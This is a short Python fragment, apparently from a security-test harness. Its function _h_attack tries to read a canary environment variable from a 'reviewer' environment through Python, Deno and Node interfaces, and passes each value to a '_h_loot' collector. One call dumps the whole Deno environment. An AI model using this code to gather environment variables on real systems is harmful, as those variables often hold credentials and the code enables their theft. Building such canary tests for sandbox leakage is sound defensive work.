# Read the reviewer's environment: os.environ, Deno.env, Node's process.env.
def _h_attack(source_dir):
    name = "__CANARY_NAME__"
    _h_try(lambda: _h_loot("os-environ", _h_os.environ.get(name)))
    for scope in _h_scopes():
        _h_try(lambda: _h_loot("deno-env", scope.Deno.env.get(name)))
        _h_try(lambda: _h_loot("deno-env-all", scope.JSON.stringify(scope.Deno.env.toObject())))
        _h_try(lambda: _h_loot("node-env", getattr(scope.process.env, name)))
